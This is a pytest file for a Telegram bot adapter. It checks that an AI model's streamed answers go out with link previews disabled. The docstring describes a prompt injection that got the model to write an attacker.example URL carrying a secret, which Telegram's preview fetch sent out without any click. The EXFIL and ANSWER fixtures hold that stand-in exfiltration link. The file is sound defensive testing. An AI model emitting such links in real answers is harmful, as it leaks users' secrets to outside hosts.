"""A link in the model's answer was shown with a link preview: Telegram's servers fetch a
previewed link as soon as the message arrives, so a prompt injection that had the model write
https://attacker.example/p?d=<a secret from the context> got the secret with no one clicking.
Every message and edit of an answer now goes with previews disabled (LinkPreviewOptions),
unless `[telegram] link_previews` turns them back on. The stand-in Bot API fetches what
Telegram would preview (`FakeBotApi.previewed`)."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from adapters.telegram.stream import ReplyStream, Target
from tests.doubles import ScriptedBackend
from tests.telegram_api import FakeBotApi, unlimited_bot
from tests.telegram_updates import feed, mention_update, telegram_stack, text_update

PRIVATE = 42
GROUP = -100123
EXFIL = "https://attacker.example/p?d=s3cret"
ANSWER = f"Your balance is on [the statement]({EXFIL}), or see {EXFIL}&raw=1 ."


async def model(*chunks: str) -> AsyncIterator[str]:
    for chunk in chunks:
        yield chunk
        await asyncio.sleep(0.02)


def answer_calls(api: FakeBotApi) -> list[str]:
    """The messages and edits that showed the answer, with the previews each asked for."""
    return [
        f"{c.method} {api.link_preview_options(c)}"
        for c in api.calls
        if c.method in ("sendMessage", "editMessageText") and c.status == 200
    ]


async def test_each_message_and_edit_of_an_answer_goes_without_a_link_preview() -> None:
    """Sent, edited as it grows, and split past Telegram's 4,096 characters."""
    async with unlimited_bot() as (api, bot):
        stream = ReplyStream(bot, Target(PRIVATE, None), interval_s=0.0, drafts=False)
        words = " word" * 1000
        await stream.play(model("It is on ", f"[the statement]({EXFIL})", words, f" {EXFIL}&r=1"))
        calls = answer_calls(api)
        assert {c.split()[0] for c in calls} == {"sendMessage", "editMessageText"}
        assert len(api.texts(PRIVATE)) == 2  # split past 4,096 characters
        assert f"{EXFIL}&r=1" in api.texts(PRIVATE)[1]
        assert all(c.endswith("{'is_disabled': True}") for c in calls), calls
        assert api.previewed == []


async def test_answers_in_private_chats_and_groups_are_not_previewed(tmp_path: Path) -> None:
    backend = ScriptedBackend(lambda r: ANSWER)
    async with telegram_stack(tmp_path, backend, stream_interval_s=0.05) as (_, adapter, api):
        await feed(adapter, text_update(1, PRIVATE, "what is my balance?"))
        await feed(adapter, mention_update(2, GROUP, "@parley_bot what is it?", user_id=7))
        await adapter.idle()
        assert len(api.texts(PRIVATE)) == len(api.texts(GROUP)) == 1
        assert EXFIL in api.texts(GROUP)[0]
        assert all(c.endswith("{'is_disabled': True}") for c in answer_calls(api))
        assert api.previewed == []


@pytest.mark.parametrize("drafts", [True, False])
async def test_link_previews_can_be_turned_back_on(tmp_path: Path, drafts: bool) -> None:
    backend = ScriptedBackend(lambda r: ANSWER)
    async with telegram_stack(
        tmp_path, backend, stream_interval_s=0.05, use_drafts=drafts, link_previews=True
    ) as (_, adapter, api):
        await feed(adapter, text_update(1, PRIVATE, "what is my balance?"))
        await adapter.idle()
        assert api.previewed and set(api.previewed) == {EXFIL}
